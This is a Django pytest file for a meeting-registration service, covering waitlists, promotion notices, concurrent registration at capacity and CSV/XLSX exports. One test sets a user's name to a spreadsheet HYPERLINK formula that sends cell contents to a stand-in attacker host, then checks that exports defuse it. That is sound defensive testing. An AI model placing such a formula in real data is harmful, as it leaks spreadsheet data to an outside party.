"""Registration, waitlist and promotion, concurrency at capacity, exports."""

import csv
import io
import threading

import pytest
from django.db import connection
from django.urls import reverse
from openpyxl import load_workbook

from meetings import services
from meetings.models import Registration, Reminder
from notifications.models import Notification
from tests.factories import PASSWORD, OfficialFactory

from .conftest import position

pytestmark = pytest.mark.django_db


def test_register_makes_reminders_at_default_leads(training, sekdes):
    registration = services.register(training, sekdes)
    assert registration.status == Registration.Status.REGISTERED
    assert registration.position_name == "Sekretaris Desa"
    assert sorted(Reminder.objects.filter(registration=registration).values_list("lead", flat=True)) == [60, 1440]
    assert services.register(training, sekdes) == registration  # twice is once


def test_waitlist_and_promotion_notifies(
    training, sekdes, kades, caruy_official, mailoutbox, django_capture_on_commit_callbacks
):
    training.capacity = 1
    training.save()
    assert services.register(training, sekdes).status == Registration.Status.REGISTERED
    waiting = services.register(training, kades)
    assert waiting.status == Registration.Status.WAITLISTED
    assert not waiting.reminders.exists()
    services.register(training, caruy_official)
    with django_capture_on_commit_callbacks(execute=True):
        promoted = services.cancel_registration(training, sekdes)
    assert promoted == waiting
    waiting.refresh_from_db()
    assert waiting.status == Registration.Status.REGISTERED
    assert waiting.reminders.pending().count() == 2
    assert list(Reminder.objects.filter(user=sekdes).values_list("outcome", flat=True)) == [Reminder.CANCELLED] * 2
    assert not Reminder.objects.filter(user=sekdes).pending().exists()
    assert Notification.objects.filter(recipient=kades, key=f"meeting-promoted:{waiting.pk}").exists()
    assert [m.to for m in mailoutbox] == [[kades.email]]
    assert "kursi" in mailoutbox[0].subject


def test_closed_registration(training, sekdes):
    training.registration_deadline = services.timezone.now() - services.timedelta(minutes=1)
    training.save()
    with pytest.raises(services.RegistrationClosed):
        services.register(training, sekdes)


def test_register_view_and_messages(client, training, sekdes):
    client.login(email=sekdes.email, password=PASSWORD)
    response = client.post(reverse("meetings:register", args=[training.pk]), follow=True)
    assert "Anda terdaftar" in response.content.decode()
    response = client.post(reverse("meetings:unregister", args=[training.pk]), follow=True)
    assert "dibatalkan" in response.content.decode()
    assert not training.registrations.active().exists()


@pytest.mark.django_db(transaction=True)
def test_concurrent_registrations_never_exceed_capacity(training, serang_village):
    if connection.vendor != "postgresql":
        pytest.skip("Row locking (select_for_update) is only exercised on PostgreSQL; SQLite serialises writers.")
    training.capacity = 3
    training.save()
    users = [OfficialFactory(village=serang_village, position=position("STAF")).user for _ in range(10)]
    barrier = threading.Barrier(len(users))
    errors = []

    def attempt(user):
        try:
            barrier.wait()
            services.register(training, user)
        except Exception as exc:  # noqa: BLE001
            errors.append(exc)
        finally:
            connection.close()

    threads = [threading.Thread(target=attempt, args=(u,)) for u in users]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    assert training.registrations.registered().count() == 3
    assert training.registrations.waitlisted().count() == 7


def test_exports(client, training, sekdes, caruy_official, camat):
    services.register(training, sekdes)
    services.register(training, caruy_official)
    client.login(email=camat.email, password=PASSWORD)
    response = client.get(reverse("meetings:registrations_export", args=[training.pk, "csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:4] == ["Nama", "Jabatan", "Desa", "Kecamatan"]
    assert {r[2] for r in rows[1:]} == {"Serang", "Caruy"}
    assert rows[1][3] == "Cipari"
    response = client.get(reverse("meetings:registrations_export", args=[training.pk, "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.max_row == 3
    assert sheet["B2"].value == "Sekretaris Desa"


def test_exports_write_a_formula_typed_as_a_name_as_text(client, training, sekdes, camat):
    hostile = '=HYPERLINK("http://evil.test/?"&A1,"klik")'
    sekdes.full_name = hostile
    sekdes.save()
    services.register(training, sekdes)
    client.login(email=camat.email, password=PASSWORD)
    response = client.get(reverse("meetings:registrations_export", args=[training.pk, "csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + hostile
    response = client.get(reverse("meetings:registrations_export", args=[training.pk, "xlsx"]))
    cell = load_workbook(io.BytesIO(response.content)).active["A2"]
    assert cell.data_type == "s" and cell.value == "'" + hostile


def test_registrations_page_query_count(client, training, camat, serang_village, django_assert_max_num_queries):
    client.login(email=camat.email, password=PASSWORD)
    url = reverse("meetings:registrations", args=[training.pk])
    for n in (2, 25):
        while training.registrations.count() < n:
            services.register(training, OfficialFactory(village=serang_village).user)
        with django_assert_max_num_queries(12):
            assert client.get(url).status_code == 200
